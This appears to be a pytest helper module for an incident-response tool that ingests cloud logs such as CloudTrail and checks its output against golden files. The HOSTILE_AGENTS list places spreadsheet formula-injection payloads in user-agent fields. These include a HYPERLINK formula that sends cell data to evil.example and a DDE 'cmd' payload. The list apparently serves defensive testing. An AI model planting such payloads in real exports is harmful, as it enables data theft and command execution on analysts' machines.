"""Shared test helpers: a fresh case per test, and the case read back as golden rows.

Golden rows are what a responder can check by eye against the vendor record:
one dict per event with its credential refs nested, times as ISO 8601 `Z`.
"""

from __future__ import annotations

import copy
import gzip
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import ir
from ir.case import Case
from parsers.base import EVENT_COLUMNS

# Fixtures shared by the playbook tests: a moto server and the AWS settings pointing at it.
pytest_plugins = ["tests.aws_moto"]

EVENT_FIELDS = ("source", *EVENT_COLUMNS, "record_no")
REF_FIELDS = ("credential", "kind", "relation", "parent", "via", "principal")
RESOURCE_FIELDS = ("type", "id", "name", "access")

Rows = Callable[[Case], list[dict[str, Any]]]


def iso_z(text: str) -> str:
    """'2026-09-02T03:04:05.120000' -> '2026-09-02T03:04:05.12Z' (fraction only when present)."""
    whole, _, fraction = text.partition(".")
    fraction = fraction.rstrip("0")
    return f"{whole}.{fraction}Z" if fraction else f"{whole}Z"


def event_rows(case: Case) -> list[dict[str, Any]]:
    """Every event of the case as a golden row, in evidence order (file, record)."""
    columns = ", ".join(
        "strftime(time, '%Y-%m-%dT%H:%M:%S.%f') AS time" if f == "time" else f for f in EVENT_FIELDS
    )
    events = case.connection.execute(
        f"SELECT event_key, {columns} FROM events ORDER BY file_id, record_no, source_event_id"
    ).fetchall()
    refs: dict[int, list[dict[str, Any]]] = {}
    for row in case.connection.execute(
        f"SELECT event_key, {', '.join(REF_FIELDS)},"
        " strftime(expires_at, '%Y-%m-%dT%H:%M:%S.%f'), scopes FROM credential_refs"
    ).fetchall():
        ref = dict(zip(REF_FIELDS, row[1:-2], strict=True))
        if row[-2] is not None:  # only where the vendor logs an expiry
            ref["expires_at"] = iso_z(row[-2])
        if row[-1] is not None:  # only where the vendor logs scopes
            ref["scopes"] = list(row[-1])
        refs.setdefault(row[0], []).append(ref)
    resources: dict[int, list[dict[str, Any]]] = {}
    for event_key, *values in case.connection.execute(
        f"SELECT event_key, {', '.join(RESOURCE_FIELDS)} FROM event_resources ORDER BY ALL"
    ).fetchall():
        resources.setdefault(event_key, []).append(dict(zip(RESOURCE_FIELDS, values, strict=True)))
    result = []
    for event_key, *values in events:
        row = dict(zip(EVENT_FIELDS, values, strict=True))
        row["time"] = iso_z(row["time"])
        row["refs"] = sorted(
            refs.get(event_key, []), key=lambda r: tuple(str(r[f]) for f in REF_FIELDS)
        )
        if event_key in resources:  # only where the parser names what the event acted on
            row["resources"] = resources[event_key]
        result.append(row)
    return result


def reject_rows(case: Case) -> list[dict[str, Any]]:
    return [
        {"file_id": file_id, "record_no": record_no, "source": source, "reason": reason}
        for file_id, record_no, source, reason in case.connection.execute(
            "SELECT file_id, record_no, source, reason FROM rejects ORDER BY file_id, record_no"
        ).fetchall()
    ]


@pytest.fixture
def case(tmp_path: Path) -> Iterator[Case]:
    with ir.open_case(tmp_path / "case.duckdb") as opened:
        yield opened


@pytest.fixture
def rows() -> Rows:
    return event_rows


@pytest.fixture
def rejects() -> Rows:
    return reject_rows


# The sample incident and golden files, shared by the timeline, report and coverage tests.
REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "sample_logs"
GOLDEN = Path(__file__).parent / "golden"
UPDATE = os.environ.get("IR_UPDATE_GOLDEN") == "1"
ROOT = "aws_access_key:AKIAB4QWZLKKE2GRC3WO"
HOSTILE_AGENTS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"invoice")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\tTAB=1+1",
    "\r=1+1",
)


def open_sample(path: Path) -> Case:
    """A case holding the sample incident (sample_logs/, its .irignore skips the answers)."""
    case = ir.open_case(path)
    case.ingest(SAMPLE)
    return case


def relative(text: str) -> str:
    """Golden-ready text: evidence paths relative to the repository."""
    return text.replace(str(REPO) + "/", "")


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode())
    assert path.exists(), f"{path} missing: run with IR_UPDATE_GOLDEN=1"
    assert text == path.read_bytes().decode(), f"{name} differs from its golden file"


def hostile_file(folder: Path) -> Path:
    """A CloudTrail file (real shape, copied from the sample) whose user agents are formulas."""
    source = next(SAMPLE.glob("logs/aws_cloudtrail/**/*_us-east-1_20260904T1200Z_*.json.gz"))
    records = json.loads(gzip.decompress(source.read_bytes()))["Records"]
    template = next(r for r in records if r["eventName"] == "ListBuckets")
    hostile = []
    for number, agent in enumerate(HOSTILE_AGENTS):
        record = copy.deepcopy(template)
        record["userAgent"] = agent
        record["eventID"] = f"00000000-0000-4000-8000-{number:012d}"
        record["eventTime"] = f"2026-09-04T15:2{number}:00Z"
        hostile.append(record)
    path = folder / "hostile.json"
    path.write_text(json.dumps({"Records": hostile}))
    return path


# Fixture folders and their golden files, shared by the parser and mapping tests.
FIXTURES = Path(__file__).parent / "fixtures"

EXPECTED = ".expected.jsonl"
REJECTS = ".rejects.jsonl"


def fixture_name(path: Path) -> str:
    return path.name.split(".", 1)[0]


def evidence_fixtures(source: str) -> list[Path]:
    """The vendor files of a source's fixture folder (not the golden files)."""
    folder = FIXTURES / source
    if not folder.is_dir():
        return []
    return sorted(
        p
        for p in folder.iterdir()
        if p.is_file()
        and not p.name.startswith(".")
        and not p.name.endswith((EXPECTED, REJECTS))
        and p.suffix != ".md"
    )


def golden_path(path: Path, suffix: str) -> Path:
    return path.with_name(fixture_name(path) + suffix)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
